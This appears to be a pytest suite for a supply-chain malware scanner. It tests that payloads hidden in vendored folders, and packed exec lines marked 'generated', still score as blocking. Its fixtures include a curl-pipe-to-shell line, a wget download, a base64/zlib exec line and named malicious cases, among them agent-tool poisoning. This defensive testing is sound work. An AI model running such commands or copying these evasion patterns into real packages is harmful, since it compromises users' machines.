"""A vendored folder is not a hiding place: the third-party discount (files.locate, "vendored") holds
only for code the package does not run. A module the package's own code imports, or names as an
entry point, weighs as the package's own code wherever it sits (install_scope.vendored_imported).

And a "generated" marker (DO NOT EDIT) excuses a long line of data, never a long line that runs code.
"""

import re

import pytest

from scans.engine import scan_archive

from .conftest import make_tgz
from .techniques import MALICIOUS_PYPI, package, setup_py

BLOCKING = ("high", "critical")
LOW = ("clean", "low")
VENDOR_FOLDERS = ("_vendor", "vendored", "external", "third_party", "upstream")


def _scan(rules, files):
    files, root = package("pypi", files)
    return scan_archive(make_tgz(files, root=root), rules, filename="p.tgz", ecosystem="pypi")


def _moved(files: dict[str, str], folder: str) -> dict[str, str]:
    """The case's modules moved to pkg/<folder>/, and pkg/__init__.py importing them (as the package
    would, to run them): the original imports point at the new place."""
    out: dict[str, str] = {}
    modules = []
    for path, text in files.items():
        if path.startswith("pkg/") and path != "pkg/__init__.py":
            out[f"pkg/{folder}/{path[4:]}"] = text
            if path.endswith(".py"):
                modules.append(path[4:-3].replace("/", "."))
        elif path != "pkg/__init__.py":
            out[path] = text
    init = files.get("pkg/__init__.py", "")
    for module in modules:  # from . import _sync -> from ._vendor import _sync
        init = re.sub(rf"from \. import {re.escape(module)}\b", f"from .{folder} import {module}", init)
    if not any(f".{folder}" in line for line in init.splitlines()):
        init = "".join(f"from .{folder}.{m} import *\n" for m in modules) + init
    out["pkg/__init__.py"] = init
    return out


def _vendorable():
    return [pytest.param(files, folder, id=f"{case}-{folder}") for case, files in MALICIOUS_PYPI.items()
            if any(p.startswith("pkg/") and p != "pkg/__init__.py" and p.endswith(".py") for p in files)
            for folder in VENDOR_FOLDERS]


def test_every_vendorable_case_is_taken():
    assert len(_vendorable()) >= 10 * len(VENDOR_FOLDERS)


@pytest.mark.parametrize("files, folder", _vendorable())
def test_a_payload_moved_to_a_vendor_folder_and_imported_by_the_package_still_blocks(rules, files, folder):
    moved = _moved(files, folder)
    assert not any(p.startswith("pkg/") and p.count("/") == 1 and p != "pkg/__init__.py" for p in moved)
    result = _scan(rules, moved)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


STAGED = MALICIOUS_PYPI["fetch_decode_exec_split"]["pkg/loader.py"]


def test_a_vendored_payload_run_as_a_console_script_still_blocks(rules):
    setup = ("from setuptools import setup\nsetup(name='helper-lib', version='1.0', packages=['pkg'],\n"
             "      entry_points={'console_scripts': ['helper = pkg._vendor.loader:main']})\n")
    result = _scan(rules, {"setup.py": setup, "pkg/__init__.py": "", "pkg/_vendor/loader.py": STAGED})
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


def test_a_vendored_payload_reached_through_another_vendored_module_still_blocks(rules):
    files = {"pkg/__init__.py": "from pkg.external import compat\n",
             "pkg/external/__init__.py": "",
             "pkg/external/compat.py": "from . import _loader\nPY3 = True\n",
             "pkg/external/_loader.py": STAGED}
    result = _scan(rules, files)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


def test_a_vendored_payload_imported_by_name_at_runtime_still_blocks(rules):
    files = {"pkg/__init__.py": "import importlib\nimportlib.import_module('pkg.third_party.loader')\n",
             "pkg/third_party/loader.py": STAGED}
    result = _scan(rules, files)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


def test_setup_py_importing_a_vendored_payload_still_blocks(rules):
    files = {"setup.py": setup_py("from pkg._vendor import loader"), "pkg/__init__.py": "",
             "pkg/_vendor/loader.py": STAGED}
    result = _scan(rules, files)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


# A vendored tree as libraries really ship one: a platform probe running lsb_release, a small HTTP
# helper, a directory helper reading the environment; the package's own code imports them. (A py2/3
# compatibility module aliasing exec, six's exec_, is judged as it is in the package's own code:
# see the test after.)
SIX_LIKE = '''"""Utilities for writing code that runs on Python 2 and 3."""
import sys
import types
import operator

PY2 = sys.version_info[0] == 2
PY3 = sys.version_info[0] == 3

if PY3:
    import builtins
    exec_ = getattr(builtins, "exec")

    def reraise(tp, value, tb=None):
        if value.__traceback__ is not tb:
            raise value.with_traceback(tb)
        raise value
else:
    def exec_(_code_, _globs_=None, _locs_=None):
        """Execute code in a namespace."""
        if _globs_ is None:
            frame = sys._getframe(1)
            _globs_ = frame.f_globals
            if _locs_ is None:
                _locs_ = frame.f_locals
            del frame
        elif _locs_ is None:
            _locs_ = _globs_
        exec("""exec _code_ in _globs_, _locs_""")

    exec_("""def reraise(tp, value, tb=None):
    raise tp, value, tb
""")


class _LazyModule(types.ModuleType):
    def __getattr__(self, attr):
        _module = __import__(self.__name__.rsplit(".", 1)[-1])
        return getattr(_module, attr)


def with_metaclass(meta, *bases):
    class metaclass(type):
        def __new__(cls, name, this_bases, d):
            return meta(name, bases, d)
    return type.__new__(metaclass, "temporary_class", (), {})
'''

DISTRO_LIKE = '''"""Linux distribution information."""
import os
import shlex
import subprocess

_OS_RELEASE_BASENAME = "os-release"


def _lsb_release_info():
    try:
        stdout = subprocess.check_output(("lsb_release", "-a"), stderr=subprocess.DEVNULL)
    except (OSError, subprocess.CalledProcessError):
        return {}
    return dict(line.split(":", 1) for line in stdout.decode().splitlines() if ":" in line)


def _os_release_info(etc_dir="/etc"):
    path = os.path.join(etc_dir, _OS_RELEASE_BASENAME)
    if not os.path.isfile(path):
        return {}
    with open(path) as fh:
        return dict(tok.split("=", 1) for tok in shlex.split(fh.read()) if "=" in tok)


def id():
    return _os_release_info().get("ID") or _lsb_release_info().get("Distributor ID", "").lower()
'''

HTTP_LIKE = '''"""A tiny HTTP helper."""
import json
import urllib.request

USER_AGENT = "python-widgetry"


def get_json(url, timeout=10):
    request = urllib.request.Request(url, headers={"User-Agent": USER_AGENT})
    with urllib.request.urlopen(request, timeout=timeout) as response:
        return json.loads(response.read().decode("utf-8"))
'''

DIRS_LIKE = '''"""Platform-specific user directories."""
import os
import sys


def user_cache_dir(appname):
    if sys.platform == "win32":
        base = os.environ.get("LOCALAPPDATA", os.path.expanduser("~"))
    elif sys.platform == "darwin":
        base = os.path.expanduser("~/Library/Caches")
    else:
        base = os.environ.get("XDG_CACHE_HOME", os.path.expanduser("~/.cache"))
    return os.path.join(base, appname)
'''


@pytest.mark.parametrize("folder", ["_vendor", "vendored", "external"])
def test_a_real_looking_vendored_tree_the_package_imports_stays_low(rules, folder):
    files = {
        "pkg/__init__.py": f"from .{folder}.distro import id as distro_id\nfrom .client import Client\n",
        "pkg/client.py": (f"from .{folder} import http, appdirs\n\n"
                          "class Client:\n    def __init__(self, url):\n        self.url = url\n"
                          "        self.cache = appdirs.user_cache_dir('widgetry')\n\n"
                          "    def status(self):\n        return http.get_json(self.url + '/status')\n"),
        f"pkg/{folder}/__init__.py": "",
        f"pkg/{folder}/distro.py": DISTRO_LIKE,
        f"pkg/{folder}/http.py": HTTP_LIKE,
        f"pkg/{folder}/appdirs.py": DIRS_LIKE,
    }
    result = _scan(rules, files)
    assert result.verdict in LOW, [f.summary() for f in result.findings]


def test_imported_vendored_code_weighs_as_the_packages_own_code(rules):
    own = _scan(rules, {"pkg/__init__.py": "from . import six\n", "pkg/six.py": SIX_LIKE})
    vendored = _scan(rules, {"pkg/__init__.py": "from ._vendor import six\n", "pkg/_vendor/six.py": SIX_LIKE})
    unimported = _scan(rules, {"pkg/__init__.py": "", "pkg/_vendor/six.py": SIX_LIKE})
    assert vendored.score == own.score > unimported.score
    assert unimported.verdict in LOW


def test_an_unimported_vendored_tree_keeps_its_discount(rules):
    script = ("import os, subprocess\nos.system('curl -sSL https://example.org/get.sh | sh')\n"
              "subprocess.call('wget -q https://example.org/tool.tar.gz', shell=True)\n")
    files = {f"pkg/_vendor/lib{i}/tools/fetch.py": script for i in range(6)}
    files["pkg/__init__.py"] = "VERSION = '1.0'\n"
    assert _scan(rules, files).score <= 6


PACKED = "import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + "eJxLTEqOiY0FAAkNAk8=" * 400 + "')))\n"


@pytest.mark.parametrize("marker", ["# Code generated by protoc. DO NOT EDIT.", "# @generated", ""])
def test_a_generated_marker_does_not_excuse_a_packed_line_that_runs_code(rules, marker):
    result = _scan(rules, {"pkg/__init__.py": "", "pkg/core.py": f"{marker}\n{PACKED}"})
    assert "eng_long_line" in {f.rule_id for f in result.findings}
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


def test_a_generated_descriptor_line_is_still_data(rules):
    descriptor = ("# -*- coding: utf-8 -*-\n# Generated by the protocol buffer compiler.  DO NOT EDIT!\n"
                  "from google.protobuf import descriptor_pool as _descriptor_pool\n"
                  "DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'"
                  + "\\n\\x0bwidget.proto\\x12\\x06widget\\\"\\x1a\\n\\x04Node\\x12\\x0c\\n\\x04name compile" * 120 + "')\n")
    result = _scan(rules, {"pkg/__init__.py": "", "pkg/widget_pb2.py": descriptor})
    assert "eng_long_line" not in {f.rule_id for f in result.findings}
    assert result.verdict in LOW


def test_a_strong_combination_in_an_unimported_vendored_file_keeps_its_weight(rules):
    """Nothing imports it (yet a .pth line, a path trick or a later import may run it): a staged
    fetch, decode and exec in one file is no library's idiom, so it is not discounted as vendored."""
    result = _scan(rules, {"pkg/__init__.py": "", "pkg/_vendor/loader.py": STAGED})
    staged = [f for f in result.findings if f.rule_id == "eng_combo_staged_payload"]
    assert staged and staged[0].points >= 18
    assert result.verdict not in LOW


def test_a_critical_signature_in_an_unimported_vendored_file_keeps_its_weight(rules):
    payload = MALICIOUS_PYPI["hex_decode_exec"]
    moved = {"pkg/__init__.py": ""} | {f"pkg/_vendor/{p[4:]}": t for p, t in payload.items()
                                       if p.startswith("pkg/") and p != "pkg/__init__.py"}
    result = _scan(rules, moved)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]


def test_a_poisoned_agent_tool_in_an_unimported_vendored_file_keeps_its_weight(rules):
    payload = MALICIOUS_PYPI["mcp_tool_poisoning"]
    moved = {"pkg/__init__.py": ""} | {f"pkg/_vendor/{p[4:]}": t for p, t in payload.items()
                                       if p.startswith("pkg/") and p != "pkg/__init__.py"}
    result = _scan(rules, moved)
    assert result.verdict in BLOCKING, [f.summary() for f in result.findings]
